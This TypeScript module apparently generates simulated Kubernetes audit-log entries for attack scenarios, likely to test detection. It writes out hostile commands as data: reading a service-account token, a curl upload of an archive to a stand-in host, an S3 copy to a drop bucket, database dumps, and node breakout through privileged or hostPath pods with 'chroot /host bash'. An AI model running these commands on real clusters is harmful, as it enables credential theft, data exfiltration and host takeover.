import type { Call } from '../audit.ts';
import { drawPod, type App } from '../layout.ts';
import * as names from '../names.ts';
import { startPod } from '../workloads.ts';
import type { Attack, Stage } from './stage.ts';

export function execInto(namespace: string, name: string, command: readonly string[]): Call {
  const query = [...command.map((word) => `command=${encodeURIComponent(word)}`), 'stdin=true', 'stdout=true', 'container=app'].join('&');
  return { verb: 'create', resource: 'pods/exec', namespace, name, query, seconds: 240 };
}

function podOf(stage: Stage, app: App): string {
  return stage.random.pick(app.pods).name;
}

const archives: readonly (readonly string[])[] = [['tar', 'cf', '-', '/data'], ['tar', '-czf', '-', '/var/lib/app'], ['pg_dump', '-U', 'postgres', 'main'], ['sh', '-c', 'curl -T /tmp/d.tgz https://files.example'], ['mysqldump', '--all-databases'], ['aws', 's3', 'cp', '/data', 's3://drop-7', '--recursive']];

/** A pod made by hand with power over its node. */
function strongPod(stage: Stage, spec: object, image: string): void {
  const { random, setting } = stage;
  const app = stage.app();
  const namespace = random.pick([app.namespace, 'default', 'kube-system']);
  const name = random.pick(['debug', 'node-shell', 'netcheck', 'tmp-fix']);
  const caller = stage.as(stage.person('admin'));
  const pod = drawPod(random, { ...app, name, namespace }, random.pick(setting.layout.nodes), 0);
  stage.do(caller, { verb: 'create', resource: 'pods', namespace, name, body: { kind: 'Pod', apiVersion: 'v1', metadata: { name, namespace }, spec: { containers: [{ name: 'c', image, ...spec }], ...spec } } });
  startPod(setting, { ...pod, name }, { app: { ...app, namespace, name, secrets: [] }, time: stage.time, random, mark: stage.mark });
  if (random.chance(0.7)) stage.do(caller, execInto(namespace, name, ['chroot', '/host', 'bash']));
}

/** Commands in pods, tunnels, and pods that break out. */
export const executionAttacks: Readonly<Record<string, Attack>> = {
  'exec-production': (stage) => {
    const app = stage.app();
    const person = stage.unused('exec', 'developer', 'admin', 'reader');
    const caller = person ? stage.as(person) : stage.as(stage.person('developer'), true);
    const pod = podOf(stage, app);
    stage.do(caller, { verb: 'get', resource: 'pods', namespace: app.namespace, name: pod });
    for (const command of stage.random.some([['sh'], ['id'], ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'], ['env']], stage.random.int(1, 4))) stage.do(caller, execInto(app.namespace, pod, command));
  },
  'exec-system': (stage) => {
    const tool = stage.random.pick(stage.setting.tools.filter(({ kind }) => kind.namespace === 'kube-system'));
    const person = stage.person('admin');
    const caller = stage.as(person, person.namespaces.includes('kube-system') ? true : undefined);
    stage.do(caller, execInto('kube-system', podOf(stage, tool.app), [stage.random.pick(['sh', 'bash', 'cat'])]));
  },
  'exec-archive': (stage) => {
    const app = stage.app(({ isDatabase }) => isDatabase);
    const caller = stage.as(stage.person('developer', 'admin'));
    stage.do(caller, execInto(app.namespace, podOf(stage, app), ['ls', '/data']));
    stage.do(caller, execInto(app.namespace, podOf(stage, app), stage.random.pick(archives)));
  },
  'port-forward-database': (stage) => {
    const app = stage.app(({ isDatabase }) => isDatabase);
    const person = stage.unused('forward', 'developer', 'admin', 'reader');
    const caller = person ? stage.as(person) : stage.as(stage.person('developer'), true);
    const name = podOf(stage, app);
    stage.do(caller, { verb: 'get', resource: 'pods', namespace: app.namespace, name });
    for (let left = stage.random.int(1, 5); left > 0; left--) stage.do(caller, { verb: 'create', resource: 'pods/portforward', namespace: app.namespace, name, seconds: 900 });
  },
  'ephemeral-container': (stage) => {
    const app = stage.app();
    const name = podOf(stage, app);
    const caller = stage.as(stage.person('admin', 'developer'));
    stage.do(caller, { verb: 'patch', resource: 'pods/ephemeralcontainers', namespace: app.namespace, name, body: { spec: { ephemeralContainers: [{ name: 'debugger', image: stage.random.pick(['busybox', ...names.foreignImages]), targetContainerName: app.name }] } } });
    stage.do(caller, { ...execInto(app.namespace, name, []), resource: 'pods/attach', query: 'container=debugger&stdin=true' });
  },
  'privileged-pod': (stage) => {
    strongPod(stage, stage.random.chance(0.5) ? { securityContext: { privileged: true } } : { securityContext: { privileged: true }, hostPID: true, hostNetwork: true }, stage.random.pick(['alpine:3', ...names.foreignImages]));
  },
  'host-mount': (stage) => {
    const path = stage.random.pick(['/', '/etc', '/var/run/containerd', '/root', '/var/lib/kubelet']);
    strongPod(stage, { volumes: [{ name: 'h', hostPath: { path } }] }, stage.random.pick(['busybox:1', 'ubuntu:24.04', ...names.foreignImages]));
  },
};
